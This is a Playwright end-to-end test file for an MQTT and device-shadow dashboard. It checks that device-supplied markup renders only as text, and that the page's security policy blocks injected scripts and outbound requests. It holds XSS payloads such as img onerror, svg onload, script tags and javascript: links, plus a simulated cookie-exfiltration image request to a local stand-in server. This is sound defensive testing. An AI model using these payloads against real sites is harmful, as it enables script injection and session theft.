import { createServer } from 'node:http'
import type { Page } from '@playwright/test'
import { freshName } from './fresh-name.ts'
import { connectClient } from './mqtt-client.ts'
import { ShadowPage } from './pages/shadow-page.ts'
import { shadowService } from './shadow-service.ts'
import { expect, test } from './test.ts'
import { watch } from './watch-live.ts'

declare global {
  var breaches: string[]
}

/** What a device may send in the hope that a page takes it for a part of itself. */
const MARKUP = `<img src=x onerror="breaches.push('img')"><svg onload="breaches.push('svg')"><script>breaches.push('script')</script>`

/** Whatever runs, and whatever the page's own policy has stopped. */
async function watchBreaches(page: Page): Promise<void> {
  await page.addInitScript(() => {
    globalThis.breaches = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      globalThis.breaches.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
}

const breachesOf = (page: Page) => page.evaluate(() => globalThis.breaches)

test('what devices say is shown as text and never becomes a part of the page', async ({ page }) => {
  await watchBreaches(page)
  const clientId = `e2e-${MARKUP}`.slice(0, 128)
  await using sender = await connectClient(clientId)
  const live = await watch(page, 'e2e/markup/#')
  const topic = 'e2e/markup/<b onclick=x>bold'
  await sender.client.publishAsync(topic, JSON.stringify({ [MARKUP]: [MARKUP], link: 'javascript:breaches.push(1)' }))
  await sender.client.publishAsync('e2e/markup/text', MARKUP)
  await expect(live.counters).toContainText('received 2')
  await live.open(topic)
  await expect(live.detail).toContainText(MARKUP)
  await live.form('Text').click()
  await expect(live.detail).toContainText(JSON.stringify(MARKUP))
  await live.show('Tree')
  await expect(live.tree).toContainText('e2e')
  expect(await breachesOf(page)).toEqual([])

  const thingName = freshName('e2e-markup')
  await shadowService.update(thingName, { desired: { [MARKUP]: MARKUP, link: 'javascript:breaches.push(1)' } })
  const shadow = new ShadowPage(page)
  await page.goto(`/things/${thingName}/shadow`)
  await expect(shadow.row('link')).toBeVisible()
  await expect(page.getByText('onerror').first()).toBeVisible()
  await expect(page.locator('img[src="x"], svg[onload], a[href^="javascript:"]')).toHaveCount(0)
  expect(await breachesOf(page)).toEqual([])

  await page.goto(`/clients/${encodeURIComponent(clientId)}`)
  await expect(page.getByRole('heading', { level: 1 })).toContainText('<img src=x')
  expect(await breachesOf(page)).toEqual([])
})

test('a script that got into the page all the same is not run, and reaches no other server', async ({ page }) => {
  let requests = 0
  const elsewhere = createServer((_request, response) => {
    requests += 1
    response.end()
  })
  await new Promise<void>((resolve) => void elsewhere.listen(0, 'localhost', resolve))
  const address = elsewhere.address()
  const url = `http://localhost:${typeof address === 'object' ? address?.port : ''}/`
  await watchBreaches(page)
  const shadow = new ShadowPage(page)
  await shadow.enter('Ada', '/things')

  const answered = await page.evaluate(async (target) => {
    const refused = (act: () => void) => {
      try {
        act()
      } catch (error) {
        return error instanceof TypeError
      }
      return false
    }
    const script = document.createElement('script')
    const handler = document.createElement('div')
    const sinks = [
      () => Object.assign(script, { textContent: "breaches.push('script')" }),
      () => Object.assign(document.createElement('p'), { innerHTML: '<b>markup</b>' }),
      () => handler.setAttribute('onclick', "breaches.push('handler')"),
      () => new Worker(`${target}worker.js`),
      () => new Worker('/api/session'),
    ].map(refused)
    script.append("breaches.push('script')")
    const image = document.createElement('img')
    const failed = new Promise((resolve) => image.addEventListener('error', resolve))
    image.src = `${target}?cookie=stolen`
    document.body.append(script, handler, image)
    handler.click()
    await failed
    return {
      sinks,
      cookie: document.cookie,
      fetched: await fetch(target, { mode: 'no-cors' }).then(() => 'yes', String),
    }
  }, url)

  expect(answered).toEqual({
    sinks: [true, true, true, true, true],
    cookie: '',
    fetched: expect.stringContaining('TypeError'),
  })
  // The browser tells of a breach by an event of its own, which may come after what was stopped has failed.
  await expect
    .poll(async () => [...new Set(await breachesOf(page))].sort())
    .toEqual([
      `connect-src ${url}`,
      `img-src ${url}?cookie=stolen`,
      'require-trusted-types-for trusted-types-sink', // text as a script, as markup, as a handler
    ])
  expect(requests).toBe(0)
  elsewhere.close()
})
